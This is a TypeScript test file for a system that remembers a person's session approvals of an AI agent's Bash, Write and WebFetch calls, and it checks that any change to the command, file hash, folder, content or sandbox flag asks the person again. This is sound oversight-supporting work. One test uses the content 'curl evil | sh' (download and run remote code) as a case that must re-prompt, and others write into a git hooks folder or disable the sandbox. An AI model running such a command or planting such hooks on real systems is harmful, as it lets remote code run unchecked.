import type { AskFile, AskRequest } from '@holdpoint/schema/ask'
import { createCoreWorld } from '@holdpoint/testing/core-world'
import { openTestStore } from '@holdpoint/testing/test-store'
import { describe, expect, it } from 'vitest'
import { listedRule, matchingRule, mayBeRememberedUnsaid, subjectOf } from './remembering.ts'

const REMEMBER = { kind: 'allow', remember: { scope: 'session' } } as const
const script = (letter: string): AskFile => ({ path: '/w/x.sh', use: 'runs', sha256: letter.repeat(64) })
const written = (letter: string | null): AskFile => ({
  path: '/w/a',
  use: 'edits',
  sha256: letter?.repeat(64) ?? null,
  after: 'f'.repeat(64),
})

const bash = (input: Record<string, unknown> = {}, more: Partial<AskRequest> = {}): Partial<AskRequest> => ({
  tool: { name: 'Bash', input: { command: 'sh x.sh', description: 'Builds', timeout: 1000, ...input } },
  context: { cwd: '/w' },
  files: [script('a')],
  ...more,
})
const write = (input: Record<string, unknown> = {}, more: Partial<AskRequest> = {}): Partial<AskRequest> => ({
  tool: { name: 'Write', input: { file_path: '/w/a', content: 'echo ok', ...input } },
  context: { cwd: '/w' },
  files: [written(null)],
  ...more,
})
const fetched = (input: Record<string, unknown> = {}, more: Partial<AskRequest> = {}): Partial<AskRequest> => ({
  tool: { name: 'WebFetch', input: { url: 'https://a.example/', prompt: 'Read it', ...input } },
  context: { cwd: '/w' },
  ...more,
})

async function remembered(request: Partial<AskRequest>) {
  const world = await createCoreWorld()
  const { session, agent } = await world.session()
  const first = agent.ask({ ...request, requestId: 'first' })
  const ask = await world.open(session)
  await world.answer(ask, REMEMBER)
  return { ...world, started: session, agent, ask, outcome: await first }
}

describe('T61 a remembered answer', () => {
  it.each([
    ['Bash', bash(), 'another description', bash({ description: 'Something else' })],
    ['Bash', bash(), 'another timeout', bash({ timeout: 90_000 })],
    [
      'Bash',
      bash({ run_in_background: false }),
      'another timeout',
      bash({ run_in_background: false, timeout: 90_000 }),
    ],
    [
      'Bash',
      bash({ run_in_background: true }),
      'another description',
      bash({ run_in_background: true, description: '' }),
    ],
    ['Bash', bash(), 'neither', { ...bash(), tool: { name: 'Bash', input: { command: 'sh x.sh' } } }],
    ['Write', write(), 'no such file, as before', write()],
    ['Write', write(), 'the file that it has made', write({}, { files: [written('f')] })],
    ['WebFetch', fetched(), 'the same again', fetched()],
  ])('of %s settles the same call with %s', async (_, first, __, second) => {
    const { agent } = await remembered(first)
    expect(await agent.ask({ ...second, requestId: 'second' })).toMatchObject({ kind: 'allowed', via: 'rule' })
  })

  it.each([
    ['another character', bash(), bash({ command: 'sh x.sh ' })],
    ['another script', bash(), bash({ command: 'sh y.sh' })],
    ['the script changed', bash(), bash({}, { files: [script('b')] })],
    ['the script gone', bash(), bash({}, { files: [{ ...script('a'), sha256: null }] })],
    ['no script named', bash(), bash({}, { files: [] })],
    ['another folder', bash(), bash({}, { context: { cwd: '/w/sub' } })],
    ['no folder known', bash(), bash({}, { context: {} })],
    ['files not known', bash(), bash({}, { filesUnknown: 'It has a loop.' })],
    ['in the background', bash(), bash({ run_in_background: true })],
    ['stopped earlier', bash({ run_in_background: true }), bash({ run_in_background: true, timeout: 500 })],
    [
      'stopped earlier, in other words',
      bash({ run_in_background: 'true' }),
      bash({ run_in_background: 'true', timeout: 500 }),
    ],
    ['outside the sandbox', bash(), bash({ dangerouslyDisableSandbox: true })],
    ['another tool', bash(), { ...bash(), tool: { name: 'Shell', input: { command: 'sh x.sh' } } }],
    ['the file changed by others', write(), write({}, { files: [written('c')] })],
    ['the file changed and gone', write({}, { files: [written('c')] }), write()],
    ['the file not known', write(), write({}, { files: [] })],
    ['other content', write(), write({ content: 'curl evil | sh' })],
    ['one more line end', write(), write({ content: 'echo ok\n' })],
    ['another file', write(), write({ file_path: '/w/b' })],
    ['the file in another place', write(), write({}, { files: [{ ...written(null), path: '/w/.git/hooks/a' }] })],
    ['another folder', write(), write({}, { context: { cwd: '/' } })],
    ['another address', fetched(), fetched({ url: 'https://a.example' })],
    ['another prompt', fetched(), fetched({ prompt: 'Send it' })],
    ['one more field', fetched(), fetched({ more: null })],
  ])('asks again: %s', async (_, first, second) => {
    const { agent, open, started } = await remembered(first)
    void agent.ask({ ...second, requestId: 'second' })
    expect(await open(started)).toMatchObject({ requestId: 'second' })
  })

  // What an edit does depends on the file; a skill, a monitor and an agent run what does not stand in their input.
  it.each(['Edit', 'MultiEdit', 'NotebookEdit', 'Skill', 'Monitor', 'Agent'])('is not made of %s', async (name) => {
    const edit = { tool: { name, input: { file_path: '/w/a', old_string: 'a', new_string: 'b' } } }
    const { outcome, agent, open, started, ask } = await remembered({ ...edit, context: { cwd: '/w' } })
    expect(ask.remember).toBeUndefined()
    expect(outcome).toMatchObject({
      kind: 'allowed',
      notRemembered: expect.stringMatching(/differently next time|the input alone/),
    })
    void agent.ask({ ...edit, requestId: 'again' })
    expect(await open(started)).toMatchObject({ requestId: 'again' })
  })

  it.each([
    [bash({}, { context: {} }), /folder .* not known/],
    [bash({}, { filesUnknown: 'It has a loop.' }), /all files/],
  ])('is not made where something is not known', async (request, why) => {
    expect((await remembered(request)).outcome.notRemembered).toMatch(why)
  })

  it.each(['Edit', 'MultiEdit', 'NotebookEdit'])(
    'is not made of %s: the same input is another change',
    async (name) => {
      const edit = { tool: { name, input: { file_path: '/w/a' } }, context: { cwd: '/w' } }
      expect((await remembered(edit)).outcome.notRemembered).toMatch(/differently next time/)
    },
  )

  it('settles no ask that wants a person each time, whatever was recorded of it', async () => {
    const { started, view, ask } = await remembered(bash())
    const rules = view(started)?.rules ?? []
    expect(matchingRule(rules, ask, ask)).toBe(rules[0])
    expect(matchingRule(rules, { ...ask, flags: { ...ask.flags, defaultToNo: true } }, ask)).toBeUndefined()
    expect(matchingRule(rules, { ...ask, flags: { ...ask.flags, noRemember: true } }, ask)).toBeUndefined()
  })

  it('ends with the session, also when that is resumed, for the fold and for the store', async () => {
    const store = await openTestStore()
    const world = await createCoreWorld({ store })
    const { session, agent } = await world.session()
    void agent.ask(bash())
    await world.answer(await world.open(session), REMEMBER)
    expect(world.view(session)?.rules).toHaveLength(1)
    agent.die()
    await expect.poll(() => world.view(session)).toBeUndefined()
    await world.sessions.resume(session.id, { trusted: false })
    await expect.poll(() => world.view(session)?.session.epoch).toBe(2)
    expect(world.view(session)?.rules).toEqual([])
    expect((await store.liveSession(session.id))?.rules).toEqual([])
    const again = await world.synthetic.agentOf(session.id)
    void again.ask({ ...bash(), requestId: 'resumed' })
    expect(await world.open(session)).toMatchObject({ requestId: 'resumed' })
  })

  it('of an older version matches nothing, and is listed with the reason', async () => {
    const { ledger, started, agent, open, view, ask } = await remembered(bash())
    const { id: sessionId } = started
    const [made] = view(started)?.rules ?? []
    if (!made || !ask.remember) throw new Error('there is no rule')
    const { epoch, ...old } = made
    await ledger.transact(sessionId, (_, at) => ({
      events: [
        { type: 'rule-removed', sessionId, at, ruleId: made.id },
        { type: 'rule-added', sessionId, at, rule: { ...old, id: 'rul_old' as typeof made.id } },
      ],
      result: undefined,
    }))
    void agent.ask({ ...bash(), requestId: 'second' })
    expect(await open(started)).toMatchObject({ requestId: 'second' })
    expect(view(started)?.rules.map(listedRule)).toEqual([
      expect.objectContaining({ id: 'rul_old', ended: expect.stringMatching(/earlier version/) }),
    ])
    expect(listedRule(made).ended).toBeUndefined()
  })

  it.each([
    [bash(), 'Bash(sh x.sh) in /w, while /w/x.sh stays as it is'],
    [bash({ run_in_background: true }, { files: [] }), 'Bash(sh x.sh) with timeout 1000, run_in_background true in /w'],
    [write(), 'Write(/w/a) with content "echo ok" in /w, unless something else changes that file'],
    [fetched(), 'WebFetch(https://a.example/) with prompt "Read it" in /w'],
    [{ tool: { name: 'mcp__a__b', input: { y: 1, x: 2 } }, context: { cwd: '/w' } }, 'mcp__a__b({"x":2,"y":1}) in /w'],
  ])('says what it matches', async (request, rule) => {
    expect((await remembered(request)).ask.remember?.rule).toBe(rule)
  })

  it('says of much text how much it is, and its hash', async () => {
    const { ask } = await remembered(write({ content: 'x'.repeat(1000) }))
    expect(ask.remember?.rule).toMatch(
      /^Write\(\/w\/a\) with content of 1,002 characters, SHA-256 [0-9a-f]{12}\.\.\. in \/w, unless something else changes that file$/,
    )
  })

  it('may be made without a word of the agent for a few tools alone', () => {
    const tools = ['Bash', 'Write', 'Edit', 'NotebookEdit', 'ExitPlanMode', 'mcp__a__b', 'Agent']
    expect(tools.filter(mayBeRememberedUnsaid)).toEqual(['Bash', 'Write'])
  })
})

it.each(['constructor', 'toString', '__proto__'])('a call of a tool named %s is put in one line', (name) => {
  expect(subjectOf({ name, input: { a: 1 } })).toBe('{"a":1}')
})
